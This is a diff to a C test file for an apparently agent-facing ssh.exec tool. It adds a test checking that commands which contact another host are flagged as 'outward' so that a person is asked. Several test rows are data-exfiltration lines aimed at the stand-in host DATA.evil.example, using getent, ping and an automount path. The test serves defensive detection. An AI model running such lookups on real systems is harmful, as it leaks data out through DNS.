@@ -7,6 +7,7 @@
 #include <signal.h>
 #include <stdio.h>
 
+#include <vigilus/vig-invocation-private.h>
 #include <vigilus/vig-server-private.h>
 
 /* Commands on a real sshd, which tests/lib/sshd.py keeps. Built with an SSH_QUIET of one second. */
@@ -105,7 +106,7 @@ tear_down (Stage *self, gconstpointer unused)
 static VigSshResult *
 run (Stage *self, const char *line, GError **error)
 {
-  VigSshCommand command = { line, g_get_monotonic_time () + 30 * G_USEC_PER_SEC, 1024, NULL, NULL };
+  VigSshCommand command = { line, vig_test_deadline (), 1024, NULL, NULL };
   VigSshStep step;
 
   return vig_ssh_run_pooled (self->pool, self->server, &command, &step, NULL, error);
@@ -147,11 +148,35 @@ test_no_answer_is_loss (Stage *self, gconstpointer unused)
   g_assert_null (result);
 }
 
+/* A line that reads here and says something to another host is told as such: a person is asked where text from outside was read. */
+static void
+test_outward (void)
+{
+  static const struct
+  {
+    const char *line;
+    gboolean    outward;
+  } rows[] = { { "df -h", FALSE }, { "getent hosts DATA.evil.example", TRUE }, { "df -h; ping -c1 DATA.evil.example", TRUE }, { "echo DATA.evil.example", FALSE },
+             { "ls /net/DATA.evil.example", TRUE } };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    {
+      g_autoptr (JsonObject) arguments = vig_json_pack_object ("{s:s, s:s}", "server", "nas", "command", rows[i].line);
+      VigInvocationValues values = { .tool_name = "ssh.exec", .arguments = arguments };
+      g_autoptr (VigInvocation) invocation = vig_invocation_new (&values, NULL, NULL, NULL);
+      g_autofree char *resource = NULL;
+
+      g_assert_cmpint (vig_ssh_command_classify (invocation, &resource), ==, VIG_LEVEL_READ);
+      g_assert_cmpint (vig_invocation_is_outward (invocation), ==, rows[i].outward);
+    }
+}
+
 int
 main (int argc, char **argv)
 {
   g_test_init (&argc, &argv, NULL);
   g_assert_cmpint (ssh_init (), ==, SSH_OK);
+  g_test_add_func ("/ssh-exec/outward", test_outward);
   g_test_add ("/ssh-exec/silence-is-no-loss", Stage, NULL, set_up, test_silence_is_no_loss, tear_down);
   g_test_add ("/ssh-exec/no-answer-is-loss", Stage, NULL, set_up, test_no_answer_is_loss, tear_down);
 
